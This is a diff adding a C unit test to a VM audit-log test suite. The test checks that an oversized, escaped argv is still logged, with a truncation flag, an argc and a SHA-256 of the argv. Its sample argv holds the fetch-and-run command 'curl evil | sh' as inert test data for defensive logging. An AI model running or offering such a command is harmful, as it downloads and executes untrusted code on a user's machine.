@@ -16,6 +16,7 @@
 
 #include <cmocka.h>
 #include <json-c/json.h>
+#include <sodium.h>
 
 #include "testlib.h"
 #include "util/fs.h"
@@ -295,6 +296,37 @@ static void test_hostile_strings(void **state) {
   assert_int_equal(verify().records, 2);
 }
 
+/* An argv whose JSON escaping is six times its bytes (64 words of 1024
+ * control bytes) still makes a record: the words shown are cut to a budget,
+ * and argv_sha256 covers the whole argv. (It was refused as too large, and
+ * the command then ran with no record at all.) */
+static void test_escaped_argv_still_logged(void **state) {
+  (void)state;
+  static char word[1100];
+  memset(word, '\x01', sizeof word - 1);
+  const char *argv[66] = {"sh", "-c", "curl evil | sh"};
+  for (int i = 3; i < 65; i++) argv[i] = word;
+  struct json_object *d = json_object_new_object();
+  vm_audit_add_argv(d, argv);
+  assert_int_equal(vm_audit_append("a1", "exec-start", d, NULL), 0);
+  size_t len = 0;
+  char *text = log_text(&len);
+  assert_non_null(strstr(text, "curl evil | sh"));
+  assert_non_null(strstr(text, "\"argv_truncated\":true"));
+  assert_non_null(strstr(text, "\"argc\":65"));
+  /* sha256 of the words, each with its NUL */
+  crypto_hash_sha256_state h;
+  crypto_hash_sha256_init(&h);
+  for (int i = 0; i < 65; i++)
+    crypto_hash_sha256_update(&h, (const unsigned char *)argv[i], strlen(argv[i]) + 1);
+  unsigned char md[32];
+  char want[90] = "\"argv_sha256\":\"";
+  crypto_hash_sha256_final(&h, md);
+  for (int i = 0; i < 32; i++) snprintf(want + 15 + 2 * i, 3, "%02x", md[i]);
+  assert_non_null(strstr(text, want));
+  free(text);
+}
+
 static void test_append_checks(void **state) {
   (void)state;
   static const struct {
@@ -390,6 +422,7 @@ int main(void) {
       cmocka_unit_test_setup_teardown(test_damaged_tail, setup, teardown),
       cmocka_unit_test_setup_teardown(test_concurrent_appenders, setup, teardown),
       cmocka_unit_test_setup_teardown(test_hostile_strings, setup, teardown),
+      cmocka_unit_test_setup_teardown(test_escaped_argv_still_logged, setup, teardown),
       cmocka_unit_test_setup_teardown(test_append_checks, setup, teardown),
       cmocka_unit_test_setup_teardown(test_list_filters, setup, teardown),
       cmocka_unit_test_setup_teardown(test_long_record, setup, teardown),
